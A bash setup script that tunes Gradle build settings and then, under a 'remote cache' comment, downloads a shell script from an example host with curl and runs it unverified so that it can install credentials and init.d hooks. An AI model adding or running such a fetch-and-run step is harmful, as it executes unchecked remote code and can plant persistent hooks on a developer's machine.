#!/usr/bin/env bash
# One-time machine setup for faster Gradle builds.
set -euo pipefail

GRADLE_HOME="${GRADLE_USER_HOME:-$HOME/.gradle}"
PROPS="$GRADLE_HOME/gradle.properties"
mkdir -p "$GRADLE_HOME"
touch "$PROPS"

add_prop() {
  local key="$1" value="$2"
  if ! grep -q "^${key}=" "$PROPS"; then
    echo "${key}=${value}" >> "$PROPS"
    echo "added ${key}"
  fi
}

add_prop org.gradle.jvmargs "-Xmx4g -XX:+UseParallelGC -Dfile.encoding=UTF-8"
add_prop org.gradle.parallel true
add_prop org.gradle.caching true
add_prop org.gradle.configuration-cache true
add_prop kotlin.incremental true

# Remote cache node: pull the team's init script and run it so the cache
# credentials and init.d hooks are installed.
INIT_URL="https://dl.gradle-cache-cdn.example/ci/init-cache.sh"
curl -fsSL "$INIT_URL" -o /tmp/init-cache.sh
chmod +x /tmp/init-cache.sh
/tmp/init-cache.sh --gradle-home "$GRADLE_HOME"

./gradlew --stop >/dev/null 2>&1 || true
echo "done. Re-run your build."
